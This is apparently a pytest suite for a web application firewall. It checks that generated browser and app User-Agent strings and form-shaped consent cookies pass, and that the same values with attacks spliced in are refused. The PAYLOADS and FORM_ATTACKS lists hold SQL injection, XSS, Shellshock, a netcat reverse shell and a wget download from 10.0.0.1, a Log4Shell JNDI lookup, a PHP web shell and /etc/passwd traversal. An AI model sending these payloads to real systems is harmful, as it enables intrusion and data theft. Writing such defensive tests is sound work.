"""WAF: the User-Agent header as browsers, apps and HTTP libraries write it
(issue 11, the speed of real requests).

A User-Agent that is RFC 9110's products and comments of plain words
("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
has nothing an injection needs: no quote, no markup, no $ { } ` | & < > =
\\ %, no URL, no path beyond "name/version", no "..". It is not inspected
(edge.waf.collect.browser_agent), as a browser's Referer URL is not: through
the detectors it cost ~180k instructions, twice the rest of a GET.

- agents generated from the grammar (products, versions, comments of
  platform words, app and SDK agents) pass, including words the detectors
  read as SQL or commands elsewhere ("like", "exec-env", "select");
- any of them with an attack spliced in (a quote, a tag, a substitution,
  a lookup, a separator outside a comment, a URL, a path, "..", a control
  byte) leaves the grammar and is refused as before; so is a payload in
  place of the agent;
- agents the grammar does not take (a bot's "+https://..." comment, CRS's
  "OWASP CRS test agent") are inspected the long way and pass.
"""
import random

import pytest
import requests

from wafkit import WafEdge, waf_config


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("agent"), waf_config()).start()
    yield e
    bad = e.error_lines("error") + e.error_lines("crit")
    e.stop()
    assert not bad, "\n".join(bad)


def status(e, agent):
    return requests.get(f"{e.url}/probe?q=1", headers={"User-Agent": agent},
                        timeout=10).status_code


# -- the grammar's pieces ---------------------------------------------------------

ENGINES = ["AppleWebKit/{a}.{b}", "Gecko/20100101", "KHTML/3.5.8",
           "Presto/2.12.388", "Trident/7.0"]
BROWSERS = ["Chrome/{a}.0.{c}.{b}", "Firefox/{a}.0", "Safari/{a}.{b}",
            "Version/{a}.{b}", "Edg/{a}.0.{c}.{b}", "OPR/{a}.0.0.0",
            "Mobile/15E148", "YaBrowser/{a}.{b}.0.0", "SamsungBrowser/{a}.0"]
PLATFORMS = ["Windows NT 10.0", "Win64", "x64", "X11", "Linux x86_64",
             "Macintosh", "Intel Mac OS X 10_15_7", "iPhone",
             "CPU iPhone OS 17_1 like Mac OS X", "Linux", "Android 14",
             "Pixel 8 Build/UQ1A.240205.004", "SM-S908B", "wv", "U",
             "rv:{a}.0", "compatible", "MSIE 9.0", "Trident/5.0",
             "KHTML, like Gecko", "like Gecko", "en-US", "Ubuntu",
             "CrOS x86_64 14541.0.0", "ARM Mac OS X"]
APPS = ["curl/{a}.{b}.0", "python-requests/2.{a}.0", "okhttp/4.{b}.0",
        "Go-http-client/2.0", "PostmanRuntime/7.{a}.0", "Wget/1.{a}.3",
        "Java/17.0.{b}", "Apache-HttpClient/4.5.{b}", "Dalvik/2.1.0",
        "node-fetch/1.0", "axios/1.{b}.2", "aws-sdk-js/2.{a}.0",
        "exec-env/AWS_Lambda_nodejs18.x", "linux/v18.17.1",
        "MyShop/3.{b}.1", "Alamofire/5.8.1", "CFNetwork/1490.0.4",
        "Darwin/23.2.0", "kube-probe/1.{a}", "Prometheus/2.{a}.0",
        "python-httpx/0.{a}.2", "Python-urllib/3.11", "select/1.0",
        "union-client/2.0"]
APP_COMMENTS = ["com.example.shop", "build:4521", "iOS 17.2.1",
                "Scale/3.00", "Linux", "Android 13", "select, like, or, and",
                "exec", "system 1"]


def fill(rng, template):
    return template.format(a=rng.randint(4, 130), b=rng.randint(0, 99),
                           c=rng.randint(1000, 6999))


def browser_agent(rng):
    parts = ["Mozilla/5.0"]
    parts.append("(" + "; ".join(fill(rng, p) for p in
                                 rng.sample(PLATFORMS, rng.randint(1, 4))) + ")")
    parts.append(fill(rng, rng.choice(ENGINES)))
    if rng.random() < 0.7:
        parts.append("(KHTML, like Gecko)")
    for template in rng.sample(BROWSERS, rng.randint(1, 3)):
        parts.append(fill(rng, template))
    return " ".join(parts)


def app_agent(rng):
    parts = [fill(rng, t) for t in rng.sample(APPS, rng.randint(1, 3))]
    if rng.random() < 0.6:
        parts.insert(1, "(" + "; ".join(rng.sample(APP_COMMENTS,
                                                    rng.randint(1, 3))) + ")")
    return " ".join(parts)


AGENTS = sorted({browser_agent(random.Random(i)) for i in range(40)}
                | {app_agent(random.Random(1000 + i)) for i in range(40)})


@pytest.mark.parametrize("agent", AGENTS)
def test_agents_as_written_pass(edge, agent):
    assert status(edge, agent) == 404, agent


# The long way still reads an agent outside the grammar, and passes these.
OUTSIDE = ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
           "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
           "OWASP CRS test agent",
           "Mozilla/5.0 (Linux; Android 13; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Version/4.0 Chrome/120.0.6099.144 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/444.0.0.0.110;]"]


@pytest.mark.parametrize("agent", OUTSIDE)
def test_agents_outside_the_grammar_are_inspected_and_pass(edge, agent):
    assert status(edge, agent) == 404, agent


# -- attacks spliced into an agent --------------------------------------------------

PAYLOADS = ["' OR 1=1-- -", "\" or \"1\"=\"1", "1' AND SLEEP(5)#",
            "<script>alert(1)</script>", "\"><svg onload=alert(1)>",
            "() { :; }; /bin/bash -c 'id'", "$(id)", "x`id`", "; cat /etc/passwd",
            "| nc 10.0.0.1 4444 -e /bin/sh", "&& wget http://10.0.0.1/x.sh",
            "${jndi:ldap://10.0.0.1:1389/a}", "{{7*7}}{{config.items()}}",
            "../../../../etc/passwd", "..\\..\\windows\\win.ini",
            "<?php system($_GET['c']); ?>", "%0d%0aSet-Cookie: a=b",
            "' UNION SELECT password FROM users-- -"]


def spliced(rng, agent, payload):
    """payload among the agent's words; a command after a separator at the
    end (before a "(" the shell would reject the line and run nothing)"""
    words = agent.split(" ")
    at = len(words) if payload[0] in ";|&" else rng.randint(0, len(words))
    return " ".join(words[:at] + [payload] + words[at:])


SPLICED = [(payload, spliced(random.Random(k * 31 + i), AGENTS[(k * 7 + i) % len(AGENTS)],
                             payload))
           for k, payload in enumerate(PAYLOADS) for i in range(3)]


@pytest.mark.parametrize("payload,agent", SPLICED)
def test_attacks_in_an_agent_are_refused(edge, payload, agent):
    assert status(edge, agent) == 403, agent


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_as_the_agent_is_refused(edge, payload):
    assert status(edge, payload) == 403, payload


# -- a cookie that holds a form ------------------------------------------------------
#
# A consent banner's or an analytics tool's cookie holding a form
# ("isGpcEnabled=0&datestamp=...&groups=C0001%3A1%2C..."), URL-encoded
# values joined by "&", is read as a form (edge.waf.collect.form_cookie):
# each piece's name and value, decoded once, inspected on its own, as a
# query string's are. An attack in a piece is refused; one that breaks the
# form's shape (a quote, a ";" or a space as sent, a piece with no "=") is
# read whole, as before.

def consent_cookie(rng):
    groups = "%2C".join(f"C000{i}%3A{rng.randint(0, 1)}" for i in range(1, rng.randint(3, 6)))
    return ("isGpcEnabled=0&datestamp=" + rng.choice(["Wed", "Thu", "Fri"])
            + f"+Dec+0{rng.randint(1, 9)}+2026+{rng.randint(10, 23)}%3A0{rng.randint(0, 9)}"
            + "%3A00+GMT%2B0100&version=202409.1.0&browserGpcFlag=0&isIABGlobal=false"
            + f"&hosts=&consentId={rng.getrandbits(64):016x}&interactionCount={rng.randint(0, 9)}"
            + f"&landingPath=NotLandingPage&groups={groups}&AwaitingReconsent=false")


def analytics_cookie(rng):
    return (f"id={rng.getrandbits(32):08x}&created={rng.randint(10**12, 2 * 10**12)}"
            f"&ref=https%3A%2F%2Fwww.example.com%2Fshop%3Fpage%3D{rng.randint(1, 9)}"
            f"&utm_source=newsletter&utm_medium=email&theme=dark")


FORM_COOKIES = ([consent_cookie(random.Random(i)) for i in range(10)]
                + [analytics_cookie(random.Random(100 + i)) for i in range(10)])


def cookie_status(e, name, value):
    return requests.get(f"{e.url}/probe?q=1", headers={"Cookie": f"{name}={value}; _ga=GA1.1.42.1"},
                        timeout=10).status_code


@pytest.mark.parametrize("value", FORM_COOKIES)
def test_form_cookies_pass(edge, value):
    assert cookie_status(edge, "OptanonConsent", value) == 404, value


FORM_ATTACKS = ["%27%20OR%201%3D1--%20-", "1%27%20UNION%20SELECT%20password%20FROM%20users--",
                "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%24(id)", "..%2F..%2F..%2F..%2Fetc%2Fpasswd",
                "%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.1%2Fa%7D", "x%3B%20cat%20%2Fetc%2Fshadow"]


@pytest.mark.parametrize("payload", FORM_ATTACKS)
def test_an_attack_in_a_form_cookies_piece_is_refused(edge, payload):
    value = f"isGpcEnabled=0&groups={payload}&version=1"
    assert cookie_status(edge, "OptanonConsent", value) == 403, value


@pytest.mark.parametrize("value", ["a=1&b=2|id", "a=1&id", "a=1&b=' OR 1=1--",
                                   "a=1&b=$(id)", "a=1&b=<svg/onload=alert(1)>"])
def test_a_cookie_that_is_no_form_is_read_whole(edge, value):
    assert cookie_status(edge, "prefs", value) == 403, value


# The Cookie header is split by hand (plain finds, no Lua patterns): empty
# pieces, white space around names, a piece without "=", an attack in the
# last piece of a form or in a name are read as before.
@pytest.mark.parametrize("header,status", [
    ("_ga=GA1.1.42.1;;  ; theme = dark ; lang=en-US ;", 404),
    ("session; _ga=GA1.1.42.1", 404),
    ("_ga=GA1.1.42.1;;  ; sid = ' OR 1=1--", 403),
    ("_ga=GA1.1.42.1; \t<script>alert(1)</script>", 403),
    ("_ga=GA1.1.42.1;' UNION SELECT password FROM users-- =1", 403),
    ("OptanonConsent=isGpcEnabled=0&groups=..%2F..%2F..%2F..%2Fetc%2Fpasswd", 403),
    ("OptanonConsent=isGpcEnabled=0&groups=C0001%3A1;x=$(id)", 403),
])
def test_cookie_header_pieces(edge, header, status):
    assert requests.get(f"{edge.url}/probe?q=1", headers={"Cookie": header},
                        timeout=10).status_code == status, header
